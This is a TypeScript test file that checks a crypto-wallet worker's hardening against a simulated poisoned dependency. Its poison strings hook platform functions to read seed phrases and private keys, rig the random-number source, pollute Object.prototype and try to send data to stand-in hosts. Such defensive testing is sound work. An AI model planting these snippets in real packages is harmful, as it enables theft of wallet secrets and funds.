import { pbkdf2Sync, randomFillSync } from 'node:crypto'
import { toHex } from '@latchkey/core/bytes'
import { readPhrase } from '@latchkey/keys/phrase'
import { beforeAll, describe, expect, test } from 'vitest'
import { buildWorker } from '../vault/fixtures/build-worker.ts'
import { startRealm } from '../vault/fixtures/worker-realm.ts'
import { deriveWallet } from '../vault/operations/accounts.ts'

/**
 * The claim: a library in the vault worker that is handed no secret gets none by changing what the others stand on, nor
 * from the worker's messages; it sends nothing out and does not choose the random numbers. The worker is the one that is
 * built, in a realm of its own. Each attack is tried on the same worker without its hardening too, where it succeeds.
 */

const words = 'legal winner thank year wave sausage worth useful legal winner thank yellow'

/** Stores what is worth nothing without the server’s half, and is handed no other secret. */
const library = /\/node_modules\/idb-keyval\//

/** The poisoned library imports another, as it may. */
const importing = (at: string) =>
  `import { sha512 as ofHashes } from '@noble/hashes/sha2.js'; ((sha512) => { ${at} })(ofHashes);`
const mark = (id: string) => `globalThis.RUNS[${JSON.stringify(id)}];`
const marks = /globalThis\.RUNS\[("[^"]+")\];/g

let built: string
/** The words, their seed and the private key of their EVM account. */
let secrets: string[]

beforeAll(async () => {
  const read = readPhrase(words)
  if ('flaw' in read) throw new Error(read.flaw)
  const { keys } = await deriveWallet({ entropy: read.entropy, evmPath: 'standard' }, '')
  secrets = [words, pbkdf2Sync(words, 'mnemonic', 2048, 64, 'sha512').toString('hex'), toHex(keys.evm).slice(2)]
  built = await buildWorker(
    'worker.ts',
    [
      {
        name: 'mark-modules',
        enforce: 'post',
        transform(code, id) {
          if (!/^\/.+\.m?[jt]s$/.test(id) || id.endsWith('/harden.ts')) return undefined
          return (library.test(id) ? importing(mark(id)) : mark(id)) + code
        },
      },
    ],
    'iife',
  )
}, 60_000)

/** The worker's script, with these statements where each module begins. */
const scriptWith = (statements: (id: string) => string, isHardened: boolean) => {
  const code = built.replace(marks, (_, id) => statements(JSON.parse(id)))
  const bare = code
    .replace('= harden()', '= globalThis')
    .replace(/freeze-hashes\.ts\n[\s\S]+?\n\s*\/\/ \S+\n/, (all) => all.replaceAll('Object.freeze(', '('))
  return isHardened ? code : bare
}

/** Starts the worker with a library that does this as soon as it runs. */
const start = (poison: string, isHardened: boolean, fill?: (bytes: Uint8Array) => void) => {
  let isIn = false
  const statements = (id: string) => {
    if (isIn || !library.test(id)) return ''
    isIn = true
    return `try { ${poison} } catch {}\n`
  }
  const script = scriptWith(statements, isHardened)
  if (!isIn) throw new Error('the library is not in the worker')
  return startRealm(script, fill)
}

/** Calls the library's own function before one of the platform's. */
const before = (holder: string, name: string, own: string) => `{
  const real = ${holder}.${name}
  ${holder}.${name} = function (...given) { (${own})(this, given); return real.apply(this, given) }
}`
/** Tells the test, by a way that stays: to have read a secret is enough. */
const say = '(found) => setTimeout(String(found))'
const hex = "(bytes) => [...bytes].map((each) => each.toString(16).padStart(2, '0')).join('')"

const readings: [string, string][] = [
  ['a listener of its own', `addEventListener('message', ({ data }) => (${say})(JSON.stringify(data)))`],
  ['the way text is taken apart', before('String.prototype', 'split', `(text) => (${say})(text)`)],
  ['the way text becomes bytes', before('TextEncoder.prototype', 'encode', `(_, [text]) => (${say})(text)`)],
  [
    'the way keys are wiped',
    before('Object.getPrototypeOf(Uint8Array.prototype)', 'fill', `(bytes) => (${say})((${hex})(bytes))`),
  ],
  [
    'the way the browser’s own cryptography takes keys',
    before(
      'Object.getPrototypeOf(crypto.subtle)',
      'importKey',
      `(_, [, bytes]) => (${say})(new TextDecoder().decode(bytes))`,
    ),
  ],
  [
    'the way another library hashes',
    before(
      'Object.getPrototypeOf(Object.getPrototypeOf(Object.getPrototypeOf(sha512.create())))',
      'update',
      `(_, [bytes]) => (${say})((${hex})(bytes))`,
    ),
  ],
]

const id = (fill: number) => Buffer.alloc(16, fill).toString('base64url')
const enrolment = {
  userId: id(1),
  vaultId: id(2),
  pin: '482915',
  apiOrigin: 'https://api.example',
  guards: ['a'],
  threshold: 1,
}

describe('a poisoned library', () => {
  test('default: all that runs in the worker runs in a frozen realm, and it works there', async () => {
    const statements = (module: string) =>
      `if (!Object.isFrozen(Object.prototype)) throw new Error(${JSON.stringify(`${module} runs too early`)})\n`
    const { ask, posted } = startRealm(scriptWith(statements, true))
    expect(await ask(1, 'readPhrase', { words })).toMatchObject({ outcome: 'answer' })
    expect(await ask(2, 'enrol', enrolment)).toMatchObject({ outcome: 'answer' })
    expect(posted).toHaveLength(2)
  })

  test.each(readings)('error: reads a phrase or a key by %s', async (_, poison) => {
    const found = async (isHardened: boolean) => {
      const { ask, timerTexts } = start(poison, isHardened)
      expect(await ask(1, 'readPhrase', { words })).toMatchObject({ outcome: 'answer' })
      return timerTexts.some((each) => secrets.some((secret) => each.includes(secret)))
    }
    expect(await found(false)).toBe(true)
    expect(await found(true)).toBe(false)
  })

  test('error: chooses the random numbers', async () => {
    const poison = 'Object.getPrototypeOf(crypto).getRandomValues = (bytes) => bytes.fill(7)'
    const drawn = async (isHardened: boolean) => {
      let count = 0
      const { ask } = start(poison, isHardened, (bytes) => {
        count += 1
        randomFillSync(bytes)
      })
      await ask(1, 'readPhrase', { words })
      // What was drawn before the library ran does not count; after its first answer the worker deals a key to warm up.
      count = 0
      await ask(2, 'readPhrase', { words })
      return count
    }
    expect(await drawn(false)).toBe(0)
    expect(await drawn(true)).toBeGreaterThan(1)
  })

  test('error: has the worker take itself for the export window’s, by a property of all objects', async () => {
    const poison = "Object.defineProperty(Object.prototype, 'exports', { value: true })"
    const answer = (isHardened: boolean) => start(poison, isHardened).ask(1, 'readPhrase', { words })
    expect(await answer(false)).toMatchObject({ failure: { code: 'not_allowed' } })
    expect(await answer(true)).toMatchObject({ outcome: 'answer' })
  })

  test('error: sends anything out by itself', () => {
    const poison = `for (const send of [
      () => fetch('https://elsewhere.example'),
      () => new XMLHttpRequest(),
      () => new WebSocket('wss://elsewhere.example'),
      () => new BroadcastChannel('elsewhere'),
      () => new Worker('elsewhere.js'),
      () => new WebTransport('https://elsewhere.example'),
      () => postMessage({ found: 'a way' }),
      () => Object.getPrototypeOf(globalThis).postMessage.call(globalThis, { found: 'a way' }),
    ]) try { send() } catch {}`
    const bare = start(poison, false)
    expect(bare.used).toHaveLength(6)
    expect(bare.posted).toHaveLength(2)
    const hardened = start(poison, true)
    expect(hardened.used).toEqual([])
    expect(hardened.posted).toEqual([])
  })

  test('error: reads the last text that another library looked for something in', () => {
    const last = "/2/.test('482915') && RegExp.$_"
    expect(startRealm(scriptWith(() => '', false)).evaluate(last)).toBe('482915')
    expect(startRealm(scriptWith(() => '', true)).evaluate(last)).toBe(undefined)
  })
})
